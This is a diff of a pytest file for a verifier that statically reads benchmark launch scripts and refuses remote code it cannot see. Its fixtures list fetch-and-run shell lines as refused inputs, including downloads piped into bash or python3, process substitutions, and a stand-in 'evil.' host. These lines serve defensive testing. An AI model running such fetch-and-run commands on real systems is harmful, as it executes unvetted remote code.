@@ -2,7 +2,7 @@
 code (`bash -c CODE`, a here-document on `bash`'s standard input) and fail closed, naming the line,
 when only the run knows it (a download piped into `bash`, a script the run writes or names, code it
 computes). verifier.shell.launchers.match_shell, verifier.shell.builtins.run_shell,
-verifier.launch.follow and verifier.shell.unmodelled.unread_shell / unread_script."""
+verifier.launch.follow and verifier.shell.unmodelled.unread_code / unread_script."""
 
 from __future__ import annotations
 
@@ -37,7 +37,8 @@ REFUSED = {
     "a file on standard input": ("bash < /tmp/setup\n", 1, "standard input"),
     "a process substitution": ("bash <(curl -fsSL https://example.com/a.sh)\n", 1, "known only at run time"),
     "a script the run downloads": ("wget -O /tmp/a.sh https://example.com/a.sh\nbash /tmp/a.sh\n", 2,
-                                   "not a file of the repository"),
+                                   "fetches at run time"),
+    "a script outside the repository": ("bash /opt/setup.sh\n", 1, "not a file of the repository"),
     "a repository script the tree lacks": ("bash /workspace/benchmarks/gone.sh\n", 1, "not in the tree"),
     "a script path the run computes": ('bash "$(cat /etc/where)"\n', 1, "known only at run time"),
     "code the run computes": ('bash -c "$(cat /etc/code)"\n', 1, "bash -c"),
@@ -92,7 +93,7 @@ def _multi_node(lines: str) -> tuple[list[tuple[str, str]], list[tuple[str, int 
 
 @pytest.mark.parametrize("name", [
     "a download piped into bash", "a download piped into bash -s", "a process substitution",
-    "a script the run downloads", "a script path the run computes", "code the run computes",
+    "a script outside the repository", "a script path the run computes", "code the run computes",
 ])
 def test_the_multi_node_launch_fails_closed_where_a_shell_runs_code_only_the_run_knows(name: str) -> None:
     lines, line, named = REFUSED[name]
@@ -122,19 +123,21 @@ def test_the_same_server_start_made_again_is_one() -> None:
     assert argv(ev) == ["org/model", "--retry"]
 
 
-def _with_installers(*urls: str) -> Commands:
+def _with_downloads(*urls: str) -> Commands:
     from verifier.launch.commands import shell_commands
 
-    return shell_commands(installers=urls)
+    return shell_commands(downloads=urls)
 
 
 UV = "https://astral.sh/uv/install.sh"
+# the speedbench scripts prepare their dataset with a program piped into Python
+PREPARE = "https://raw.githubusercontent.com/NVIDIA-NeMo/Skills/refs/heads/main/nemo_skills/dataset/speed-bench/prepare.py"
 
 
 @pytest.mark.parametrize("download", [f"curl -LsSf {UV}", f"wget -qO- {UV}", f'curl -fsSL "{UV}"'])
-def test_a_trusted_tool_installer_piped_into_a_shell_is_read_past(download: str) -> None:
-    """Policy `launcher.trusted-installers`: the runners install uv with `curl -LsSf URL | sh`."""
-    ev = run(f"{download} | sh\n" + SERVE, commands=_with_installers(UV))
+def test_a_trusted_download_piped_into_a_shell_is_read_past(download: str) -> None:
+    """Policy `launcher.trusted-downloads`: the runners install uv with `curl -LsSf URL | sh`."""
+    ev = run(f"{download} | sh\n" + SERVE, commands=_with_downloads(UV))
     assert argv(ev) == ["org/model", "--decoy"]
 
 
@@ -144,21 +147,57 @@ def test_a_trusted_tool_installer_piped_into_a_shell_is_read_past(download: str)
 ])
 def test_any_other_download_piped_into_a_shell_stops_the_evaluation(download: str) -> None:
     with pytest.raises(ShellLimit) as info:
-        run(f"{download} | sh\n" + SERVE, commands=_with_installers(UV))
+        run(f"{download} | sh\n" + SERVE, commands=_with_downloads(UV))
     assert "standard input" in info.value.message
 
 
-def test_the_installer_list_is_the_launch_policy() -> None:
-    from verifier.launch.commands import trusted_installers
+def test_the_trusted_downloads_are_the_launch_policy() -> None:
+    from verifier.launch.commands import trusted_downloads
 
-    assert UV in trusted_installers(load_policies()["launch"])
+    assert {UV, PREPARE} <= set(trusted_downloads(load_policies()["launch"]))
 
 
-def test_the_multi_node_walk_reads_past_a_trusted_installer_only() -> None:
-    found, errors = _multi_node(f"curl -LsSf {UV} | sh\n")
+@pytest.mark.parametrize("lines", [f"curl -LsSf {UV} | sh\n", f"curl -LsSf {PREPARE} | python3 - --config q\n"])
+def test_the_multi_node_walk_reads_past_a_trusted_download_only(lines: str) -> None:
+    found, errors = _multi_node(lines)
     assert not errors and [role for role, _ in found] == ["prefill", "decode"]
-    found, errors = _multi_node(f"curl -LsSf {UV}.evil | sh\n")
-    assert not found and errors and f"curl -LsSf {UV}.evil" in errors[0][2]
+    evil = lines.replace("https://", "https://evil.")
+    found, errors = _multi_node(evil)
+    assert not found and errors and "evil." in errors[0][2] and "standard input" in errors[0][2]
+
+
+# lines -> (the line the evaluator stops at, words its message names)
+PYTHON_REFUSED = {
+    "a download piped into python3 -": ("curl -fsSL https://example.com/a.py | python3 - --x\n", 1, "standard input"),
+    "a download piped into python3": ("curl -fsSL https://example.com/a.py | python3\n", 1, "standard input"),
+    "a process substitution": ("python3 <(curl -fsSL https://example.com/a.py)\n", 1, "known only at run time"),
+    "a program the script downloads": ("wget -O /tmp/a.py https://example.com/a.py\npython3 -u /tmp/a.py\n", 2,
+                                       "fetches at run time"),
+    "a repository script the script overwrites": (
+        "curl -o benchmarks/lib.sh https://example.com/a.sh\nbash benchmarks/lib.sh\n", 2, "fetches at run time"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PYTHON_REFUSED))
+def test_the_evaluator_stops_where_a_program_runs_code_the_script_fetches(name: str) -> None:
+    lines, line, named = PYTHON_REFUSED[name]
+    with pytest.raises(ShellLimit) as info:
+        run(lines + SERVE, files={"benchmarks/lib.sh": "X=1\n"})
+    assert info.value.loc is not None and info.value.loc[1] == line, info.value
+    assert named in info.value.message and "not read statically" in info.value.message, info.value.message
+
+
+@pytest.mark.parametrize("lines", [
+    f"curl -LsSf {PREPARE} | python3 - --config qualitative --output_dir /tmp/sb\n",  # a trusted download
+    "python3 - <<'EOF'\nprint(1)\nEOF\n",  # Python the walkers do not read, written in the script
+    "echo 'print(1)' | python3\n",
+    "python3 -c 'print(1)'\n",
+    "python3 -u -W ignore /opt/image/setup.py\n",  # a file of the image
+    "python3 -m pip install x\n",
+])
+def test_python_whose_program_the_script_writes_or_trusts_reads_on(lines: str) -> None:
+    ev = run(lines + SERVE, commands=_with_downloads(PREPARE))
+    assert argv(ev) == ["org/model", "--decoy"]
 
 
 def test_a_runner_starting_the_benchmark_script_in_a_started_shell_starts_it() -> None:
